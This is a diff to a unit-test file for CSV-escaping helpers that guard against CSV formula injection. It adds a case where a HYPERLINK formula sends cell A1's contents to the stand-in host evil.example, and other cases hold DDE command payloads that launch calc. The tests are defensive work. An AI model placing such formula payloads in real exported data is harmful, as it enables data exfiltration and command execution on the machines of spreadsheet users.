@@ -26,12 +26,18 @@ describe("toCsvLine", () => {
 });
 
 describe("csvCell (CSV injection, issue #15)", () => {
+  it("quotes a cell with ';' so a ';'-separating spreadsheet cannot split a formula out of it", () => {
+    const cell = csvCell('x;=HYPERLINK("http://evil.example/?"&A1,"click")');
+    expect(cell).toBe('"x;=HYPERLINK(""http://evil.example/?""&A1,""click"")"');
+    expect(parseCsv(`${cell}\n`)[0]).toEqual(['x;=HYPERLINK("http://evil.example/?"&A1,"click")']);
+  });
+
   it.each([
     ['=HYPERLINK("https://evil.example")', `"'=HYPERLINK(""https://evil.example"")"`],
     ["+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"],
     ["-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"],
     ["@SUM(A1:A2)", "'@SUM(A1:A2)"],
-    ["\t=1+1", "'\t=1+1"],
+    ["\t=1+1", `"'\t=1+1"`],
     ["\r=1+1", `"'\r=1+1"`],
     ["-", "'-"],
     ["-1e3", "'-1e3"],
